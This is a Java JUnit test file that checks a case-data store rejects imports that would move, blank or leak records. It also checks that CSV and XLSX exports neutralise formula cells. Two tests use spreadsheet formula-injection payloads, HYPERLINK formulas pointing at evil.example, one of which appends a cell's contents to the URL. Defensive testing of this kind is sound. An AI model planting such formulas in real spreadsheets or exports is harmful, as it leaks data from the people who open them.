package org.tfeval.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.tfeval.instrument.Instrument;
import org.tfeval.instrument.InstrumentLoader;
import org.tfeval.instrument.validation.ImportResult;
import org.tfeval.instrument.validation.Violation;
import org.tfeval.pg.ConnectionSettings;
import org.tfeval.store.audit.AuditLog;
import org.tfeval.store.audit.AuditReplay;
import org.tfeval.store.edit.RecordEditor;
import org.tfeval.store.imports.Exporter;
import org.tfeval.store.imports.ImportException;
import org.tfeval.store.imports.Importer;
import org.tfeval.testkit.PostgresExtension;

/** Issue 13 items 4, 5, 6 and 11: imports that would move, blank or leak data, or reach the database unchecked. */
@ExtendWith(PostgresExtension.class)
class ImportAttackTest {
    private static final String SENTINEL = "SENTINEL narrative of a survivor 9c2e";
    private final Instrument ecm = InstrumentLoader.builtIn("ecm");
    private final Fixtures fx = new Fixtures(ecm);
    private Store store;

    @TempDir
    Path dir;

    @BeforeEach
    void open(ConnectionSettings db) {
        store = Store.open(db, Store.DEFAULT_SCHEMA, ecm);
        stored("task_force", "tf.csv", List.of(tf("TFA"), tf("TFB")));
        stored("case", "case.csv", List.of(kase("TFA-C1", "TFA"), kase("TFA-C2", "TFA")));
        stored("victim", "victim.csv", List.of(victim("TFA-C1-V1", "TFA-C1")));
    }

    private Map<String, String> tf(String id) {
        return fx.record("task_force", Map.of("TF_ID", id, "TF_NAME", "Synthetic " + id, "TF_STATE", "TX"));
    }

    private Map<String, String> kase(String id, String tf) {
        return new LinkedHashMap<>(fx.record(
                "case",
                Map.of(
                        "CASE_ID",
                        id,
                        "TF_ID",
                        tf,
                        "CASE_OPEN_DATE",
                        "2018-01-02",
                        "CASE_CLOSE_DATE",
                        "2019-03-01",
                        "INCIDENT_DATE",
                        "2017-12-01",
                        "NARRATIVE",
                        SENTINEL)));
    }

    private Map<String, String> victim(String id, String caseId) {
        return fx.record("victim", Map.of("VICTIM_ID", id, "CASE_ID", caseId, "TF_ID", "TFA"));
    }

    private void stored(String form, String file, List<Map<String, String>> rows) {
        ImportResult r = Importer.of(store).importFile(form, Fixtures.csv(dir, file, rows));
        assertThat(r.errors()).as(r.violations().toString()).isZero();
    }

    private ImportResult refused(String form, Path file) {
        ImportResult r = Importer.of(store).importFile(form, file);
        assertThat(r.stored()).isFalse();
        assertThat(r.inserted() + r.updated()).isZero();
        for (Violation v : r.violations()) {
            assertThat(v.describe()).doesNotContain("SENTINEL").doesNotContain("survivor");
        }
        return r;
    }

    private String storedValue(String sql) throws Exception {
        try (Connection c = store.connect();
                Statement st = c.createStatement();
                ResultSet rs = st.executeQuery(sql)) {
            return rs.next() ? rs.getString(1) : null;
        }
    }

    @Test
    void a_reimport_cannot_move_a_case_to_another_task_force() throws Exception {
        ImportResult r =
                refused("case", Fixtures.csv(dir, "moved.csv", List.of(kase("TFA-C1", "TFB"), kase("TFA-C2", "TFA"))));
        assertThat(r.violations()).singleElement().satisfies(v -> {
            assertThat(v.code()).isEqualTo("link_changed");
            assertThat(v.file()).isEqualTo("moved.csv");
            assertThat(v.row()).isEqualTo(1);
            assertThat(v.variable()).isEqualTo("TF_ID");
            assertThat(v.recordId()).isEqualTo("TFA-C1");
        });
        assertThat(storedValue("SELECT tf_id FROM " + store.table("case").table() + " WHERE case_id = 'TFA-C1'"))
                .isEqualTo("TFA");
    }

    @Test
    void a_case_moves_only_by_the_audited_move_which_carries_its_victims_inherited_values() throws Exception {
        RecordEditor editor = new RecordEditor(store, "dm");
        assertThatThrownBy(() -> editor.set("case", List.of("TFA-C1"), Map.of("TF_ID", "TFB"), "edit"))
                .isInstanceOf(RecordEditor.EditException.class)
                .hasMessageContaining("tfeval move");
        assertThatThrownBy(() -> editor.move("case", List.of("TFA-C1"), "TFB", " "))
                .isInstanceOf(RecordEditor.EditException.class);

        assertThat(editor.move("case", List.of("TFA-C1"), "TFB", "filed under the wrong task force"))
                .isEqualTo(2);

        assertThat(storedValue("SELECT tf_id FROM " + store.table("case").table() + " WHERE case_id = 'TFA-C1'"))
                .isEqualTo("TFB");
        assertThat(storedValue("SELECT tf_id FROM " + store.table("victim").table() + " WHERE victim_id = 'TFA-C1-V1'"))
                .isEqualTo("TFB");
        assertThat(storedValue("SELECT reason || ' ' || changes FROM audit_event WHERE action = 'move'"))
                .isEqualTo("filed under the wrong task force 2");
        try (Connection c = store.connect()) {
            assertThat(AuditReplay.compare(c, ecm))
                    .as("the move is replayed from the audit log")
                    .isEmpty();
            assertThat(AuditLog.verify(c)).isEmpty();
        }
    }

    @Test
    void a_reimport_cannot_attach_a_victim_to_another_case() throws Exception {
        ImportResult r = refused("victim", Fixtures.csv(dir, "victim2.csv", List.of(victim("TFA-C1-V1", "TFA-C2"))));
        assertThat(r.violations())
                .filteredOn(Violation::isError)
                .extracting(Violation::code)
                .containsExactly("link_changed");
        assertThat(r.violations())
                .filteredOn(Violation::isError)
                .extracting(Violation::variable)
                .containsExactly("CASE_ID");
    }

    @Test
    void a_missing_column_is_an_error_and_never_blanks_stored_values() throws Exception {
        Map<String, String> row = kase("TFA-C1", "TFA");
        row.remove("NARRATIVE");
        row.remove("N_VICTIMS");
        ImportResult r = refused("case", Fixtures.csv(dir, "fewer.csv", List.of(row)));
        assertThat(r.violations())
                .filteredOn(v -> v.code().equals("missing_column"))
                .extracting(Violation::variable)
                .containsExactlyInAnyOrder("NARRATIVE", "N_VICTIMS");
        assertThat(storedValue("SELECT narrative FROM " + store.table("case").table() + " WHERE case_id = 'TFA-C1'"))
                .isEqualTo(SENTINEL);
    }

    @Test
    void a_short_row_is_an_error_not_a_blank() throws Exception {
        Path file = Fixtures.csv(dir, "short.csv", List.of(kase("TFA-C1", "TFA")));
        List<String> lines = new ArrayList<>(Files.readAllLines(file));
        String header = lines.get(0);
        int cells = header.split(",").length;
        StringBuilder shortRow = new StringBuilder("TFA-C1,TFA");
        for (int i = 2; i < cells - 5; i++) shortRow.append(",1");
        Files.writeString(file, header + "\n" + shortRow + "\n");
        ImportResult r = refused("case", file);
        assertThat(r.violations()).anySatisfy(v -> {
            assertThat(v.code()).isEqualTo("too_few_cells");
            assertThat(v.row()).isEqualTo(1);
        });
    }

    @Test
    void values_the_database_would_refuse_are_caught_by_validation_with_row_and_column() throws Exception {
        Map<String, String> huge = kase("TFA-C3", "TFA");
        huge.put("N_AGENCIES", "3000000000");
        Map<String, String> ancient = kase("TFA-C4", "TFA");
        ancient.put("INCIDENT_DATE", "0000-01-01");
        Map<String, String> future = kase("TFA-C5", "TFA");
        future.put("CASE_CLOSE_DATE", "+100000-01-01");
        Map<String, String> nul = kase("TFA-C6", "TFA");
        nul.put("NARRATIVE", SENTINEL + "\u0000");
        ImportResult r = refused("case", Fixtures.csv(dir, "range.csv", List.of(huge, ancient, future, nul)));
        assertThat(r.violations())
                .anySatisfy(v -> assertThat(v.row() + " " + v.variable() + " " + v.code())
                        .isEqualTo("1 N_AGENCIES not_storable"))
                .anySatisfy(v -> assertThat(v.row() + " " + v.variable() + " " + v.code())
                        .isEqualTo("2 INCIDENT_DATE not_storable"))
                .anySatisfy(v -> assertThat(v.row() + " " + v.variable() + " " + v.code())
                        .isEqualTo("3 CASE_CLOSE_DATE not_storable"))
                .anySatisfy(v -> assertThat(v.row() + " " + v.variable() + " " + v.code())
                        .isEqualTo("4 NARRATIVE nul_character"));
    }

    @Test
    void a_headerless_file_does_not_echo_its_first_record() throws Exception {
        Path file = Fixtures.csv(dir, "noheader.csv", List.of(kase("TFA-C1", "TFA"), kase("TFA-C2", "TFA")));
        List<String> lines = Files.readAllLines(file);
        Files.write(file, lines.subList(1, lines.size()));
        ImportResult r = refused("case", file);
        assertThat(r.violations()).extracting(Violation::code).contains("no_header");
    }

    @Test
    void shifted_columns_do_not_echo_narrative_text_as_a_value() throws Exception {
        Map<String, String> row = kase("TFA-C1", "TFA");
        List<String> names = new ArrayList<>(row.keySet());
        Map<String, String> shifted = new LinkedHashMap<>();
        for (int i = 0; i < names.size(); i++) {
            // every value one column to the left: narrative text lands in a number column
            shifted.put(names.get(i), i + 1 < names.size() ? row.get(names.get(i + 1)) : "");
        }
        int at = names.indexOf("NARRATIVE");
        shifted.put(names.get(at - 1), SENTINEL);
        shifted.put(names.get(0), SENTINEL);
        refused("case", Fixtures.csv(dir, "shifted.csv", List.of(shifted)));
    }

    @Test
    void a_10_mb_line_produces_a_bounded_report() throws Exception {
        Path file = dir.resolve("big.csv");
        Map<String, String> row = kase("TFA-C1", "TFA");
        String header = String.join(",", row.keySet());
        StringBuilder big = new StringBuilder(11_000_000);
        String cell = "X".repeat(1000) + " " + SENTINEL;
        while (big.length() < 10_000_000) big.append(cell).append(',');
        Files.writeString(file, header + "\n" + big + "\n", StandardCharsets.UTF_8);
        ImportResult r = refused("case", file);
        long size =
                r.violations().stream().mapToLong(v -> v.describe().length()).sum();
        assertThat(size).as("characters of all messages").isLessThan(200_000);
    }

    @Test
    void a_csv_export_neutralises_formula_cells_but_keeps_numbers_and_missing_codes_and_round_trips() throws Exception {
        Map<String, String> a = kase("TFA-C7", "TFA");
        a.put("NARRATIVE", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        Map<String, String> b = kase("TFA-C8", "TFA");
        b.put("NARRATIVE", "'=already quoted"); // a spreadsheet's own text quote: removed on import
        Map<String, String> d = kase("TFA-C9", "TFA");
        d.put("NARRATIVE", "@SUM(1+1)");
        stored("case", "formula.csv", List.of(a, b, d));
        assertThat(a.get("LABOR_INDUSTRY")).isEqualTo("-7");

        Path out = dir.resolve("export.csv");
        Exporter.Written w = new Exporter(store).write("case", out);
        assertThat(w.neutralised()).isEqualTo(3);
        String csv = Files.readString(out);
        assertThat(csv)
                .contains("\"'=HYPERLINK(")
                .contains(",'=already quoted,")
                .contains("'@SUM(1+1)")
                .doesNotContain(",=")
                .doesNotContain("'-7");
        assertThat(csv.lines().filter(l -> l.startsWith("TFA-C7")).findFirst().orElseThrow())
                .contains(",-7,");

        ImportResult again = Importer.of(store).importFile("case", out);
        assertThat(again.errors()).isZero();
        assertThat(again.updated()).as("the quote is removed again on import").isZero();
    }

    @Test
    void a_damaged_xlsx_is_a_usage_error_without_parser_names() throws Exception {
        Path good = dir.resolve("good.xlsx");
        try (OutputStream out = Files.newOutputStream(good)) {
            Workbook wb = new Workbook(out, "test", "1.0");
            Worksheet ws = wb.newWorksheet("task_force");
            ws.value(0, 0, "TF_ID");
            ws.value(1, 0, "TFC");
            wb.finish();
        }
        Path bad = dir.resolve("bad.xlsx");
        try (ZipFile zin = new ZipFile(good.toFile());
                ZipOutputStream zout = new ZipOutputStream(Files.newOutputStream(bad))) {
            var entries = zin.entries();
            while (entries.hasMoreElements()) {
                ZipEntry e = entries.nextElement();
                zout.putNextEntry(new ZipEntry(e.getName()));
                byte[] bytes = zin.getInputStream(e).readAllBytes();
                if (e.getName().contains("worksheets/sheet")) {
                    String xml = new String(bytes, StandardCharsets.UTF_8);
                    bytes = xml.substring(0, xml.length() / 2)
                            .concat("<row><c r=\"A9\"><<<")
                            .getBytes(StandardCharsets.UTF_8);
                }
                zout.write(bytes);
                zout.closeEntry();
            }
        }
        assertThatThrownBy(() -> Importer.of(store).importFile("task_force", bad))
                .isInstanceOf(ImportException.class)
                .hasMessageContaining("not a readable XLSX workbook")
                .satisfies(e -> assertThat(e.getMessage())
                        .doesNotContainIgnoringCase("exception")
                        .doesNotContain("javax")
                        .doesNotContain("com."));
    }

    @Test
    void an_xlsx_formula_cell_is_read_as_its_value_never_as_the_formula() throws Exception {
        Map<String, String> rec = tf("TFX");
        List<String> names = new ArrayList<>(rec.keySet());
        Path xlsx = dir.resolve("formula.xlsx");
        try (OutputStream out = Files.newOutputStream(xlsx)) {
            Workbook wb = new Workbook(out, "test", "1.0");
            Worksheet ws = wb.newWorksheet("task_force");
            for (int c = 0; c < names.size(); c++) {
                ws.value(0, c, names.get(c));
                String v = rec.get(names.get(c));
                if (names.get(c).equals("TF_NAME")) ws.formula(1, c, "HYPERLINK(\"http://evil.example\",\"x\")");
                else if (v.matches("-?\\d+")) ws.value(1, c, Integer.parseInt(v));
                else ws.value(1, c, v);
            }
            wb.finish();
        }
        Importer.of(store).importFile("task_force", xlsx);
        String name =
                storedValue("SELECT tf_name FROM " + store.table("task_force").table() + " WHERE tf_id = 'TFX'");
        assertThat(String.valueOf(name)).doesNotContain("HYPERLINK").doesNotStartWith("=");
    }
}
